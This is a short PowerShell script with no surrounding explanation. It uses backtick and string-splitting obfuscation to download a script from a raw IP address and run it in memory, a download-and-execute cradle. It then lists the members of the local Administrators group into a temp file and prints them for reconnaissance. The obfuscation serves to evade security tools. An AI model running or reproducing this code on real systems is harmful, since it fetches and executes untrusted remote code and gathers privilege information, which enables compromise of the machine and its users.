$ErrorActionPreference = 'Stop'
$src = (Ne`w-Ob`j`ect Net.`WebC`l`ient).("Down" + "loadString").Invoke('http://198.51.100.48/s')
$sb = [ScriptBlock]::Create($src)
$sb.Invoke()

$cfg = 'Get-LocalGroupMember -Group Administrators | Out-File $env:TEMP\g.txt'
& ([scriptblock]::Create($cfg))

$out = Join-Path -Path $env:TEMP -ChildPath 'g.txt'
if (Test-Path -Path $out) {
    Get-Content -Path $out | Select-Object -First 20
}
